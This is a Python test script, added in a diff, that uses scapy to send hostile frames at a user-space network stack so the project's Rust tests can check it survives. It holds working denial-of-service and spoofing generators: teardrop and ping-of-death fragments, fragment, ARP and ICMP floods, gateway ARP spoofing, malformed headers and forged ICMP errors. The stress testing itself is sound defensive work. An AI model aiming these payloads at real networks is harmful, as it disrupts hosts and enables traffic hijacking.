@@ -1,0 +1,119 @@
+#!/usr/bin/env python3
+"""Hostile traffic against a ringstack stack, crafted with scapy.
+
+    attack.py SCENARIO IFACE STACK_IP STACK_MAC
+
+Runs in the peer's network namespace and sends raw frames on IFACE. Each
+scenario prints one line, "sent N", when done. The Rust side (tests/attack.rs)
+then checks that the stack still answers, counted the drops, and kept memory
+under its caps.
+"""
+import random
+import sys
+
+from scapy.all import ARP, ICMP, IP, UDP, Ether, Raw, conf, get_if_hwaddr, sendp
+
+conf.verb = 0
+scenario, iface, stack_ip, stack_mac = sys.argv[1:5]
+me = get_if_hwaddr(iface)
+rnd = random.Random(1)
+net = stack_ip.rsplit(".", 2)[0]  # the stack runs on a /16: 198.18.x.y
+
+
+def eth():
+    # type set explicitly: scapy's default for a Raw payload is 0x9000.
+    return Ether(src=me, dst=stack_mac, type=0x0800)
+
+
+def rand_host():
+    return f"{net}.{rnd.randrange(1, 255)}.{rnd.randrange(1, 255)}"
+
+
+def rand_mac():
+    return "02:%02x:%02x:%02x:%02x:%02x" % tuple(rnd.randrange(256) for _ in range(5))
+
+
+def send(frames):
+    # One socket for the whole list: scapy's fast path.
+    sendp(frames, iface=iface, verbose=False)
+    print(f"sent {len(frames)}", flush=True)
+
+
+frames = []
+if scenario == "teardrop":
+    # The classic: the second fragment starts inside the first.
+    for i in range(2000):
+        src = rand_host()
+        frames.append(eth() / IP(src=src, dst=stack_ip, id=i, flags="MF", frag=0, proto=17) / Raw(b"A" * 48))
+        frames.append(eth() / IP(src=src, dst=stack_ip, id=i, frag=3, proto=17) / Raw(b"B" * 40))
+elif scenario == "tiny_fragments":
+    # 8-byte fragments that never complete, many per datagram.
+    for d in range(300):
+        src = rand_host()
+        for k in range(100):
+            frames.append(eth() / IP(src=src, dst=stack_ip, id=d, flags="MF", frag=k, proto=1) / Raw(b"x" * 8))
+elif scenario == "ping_of_death":
+    # Fragments of an echo request whose reassembled size passes 65535.
+    payload = bytes(ICMP(type=8) / Raw(b"D" * 65600))
+    for i in range(20):
+        whole = IP(src=rand_host(), dst=stack_ip, id=1000 + i, proto=1) / Raw(payload)
+        off = 0
+        while off < len(payload):
+            chunk = payload[off:off + 1480]
+            more = "MF" if off + 1480 < len(payload) else 0
+            frames.append(eth() / IP(src=whole.src, dst=stack_ip, id=whole.id, flags=more, frag=off // 8, proto=1) / Raw(chunk))
+            off += 1480
+elif scenario == "fragment_flood":
+    for i in range(20000):
+        frames.append(eth() / IP(src=rand_host(), dst=stack_ip, id=rnd.randrange(65536), flags="MF", frag=0, proto=17) / Raw(b"F" * 1000))
+elif scenario == "arp_flood":
+    # Requests for our address from thousands of senders: every one is an
+    # entry the stack may learn (RFC 826); the cache must stay bounded.
+    for i in range(10000):
+        frames.append(Ether(src=(m := rand_mac()), dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=m, psrc=rand_host(), pdst=stack_ip))
+elif scenario == "arp_spoof_gateway":
+    # Replies claiming the kernel peer (the stack's gateway) is at our fake MAC.
+    gw = f"{net}.0.1"
+    fake = "02:66:66:66:66:66"
+    for i in range(3000):
+        frames.append(Ether(src=fake, dst=stack_mac) / ARP(op=2, hwsrc=fake, psrc=gw, hwdst=stack_mac, pdst=stack_ip))
+elif scenario == "bad_headers":
+    good = IP(src=f"{net}.0.1", dst=stack_ip, proto=17) / UDP(sport=1, dport=7) / Raw(b"hello")
+    raw = bytes(good)
+    for i in range(2000):
+        b = bytearray(raw)
+        kind = i % 8
+        if kind == 0:
+            b[0] = 0x40 | rnd.randrange(0, 5)       # IHL below 5
+        elif kind == 1:
+            b[0] = 0x4F                               # IHL 15: past the packet
+        elif kind == 2:
+            b[2:4] = (len(b) + rnd.randrange(1, 500)).to_bytes(2, "big")  # total length too big
+        elif kind == 3:
+            b[2:4] = rnd.randrange(0, 20).to_bytes(2, "big")              # total length below the header
+        elif kind == 4:
+            b[10] ^= 0xFF                             # header checksum
+        elif kind == 5:
+            b[-1] ^= 0xFF                             # UDP checksum
+        elif kind == 6:
+            b[0] = 0x65                               # version 6 in an IPv4 frame
+        else:
+            b = b[: rnd.randrange(0, 20)]             # truncated header
+        frames.append(eth() / Raw(bytes(b)))
+    # TTL 0: a host MUST NOT discard for that alone (RFC 1122 3.2.1.7); the echo is answered.
+    frames.append(eth() / IP(src=f"{net}.0.1", dst=stack_ip, ttl=0) / ICMP(type=8, id=7, seq=1))
+elif scenario == "icmp_flood":
+    # Echo requests from thousands of spoofed on-link sources: each reply
+    # needs ARP for a host that does not exist.
+    for i in range(10000):
+        frames.append(eth() / IP(src=rand_host(), dst=stack_ip) / ICMP(type=8, id=i, seq=i) / Raw(b"p" * 56))
+elif scenario == "icmp_errors_quoting_us":
+    # Errors quoting datagrams from our own address, as a blind attacker
+    # would send to tear down connections.
+    for i in range(5000):
+        quoted = IP(src=stack_ip, dst=rand_host(), proto=17) / UDP(sport=7, dport=rnd.randrange(1, 65536))
+        t, c = [(3, 3), (3, 1), (3, 4), (11, 0), (12, 0)][i % 5]
+        frames.append(eth() / IP(src=rand_host(), dst=stack_ip) / ICMP(type=t, code=c) / Raw(bytes(quoted)[:28]))
+else:
+    sys.exit(f"unknown scenario {scenario}")
+send(frames)
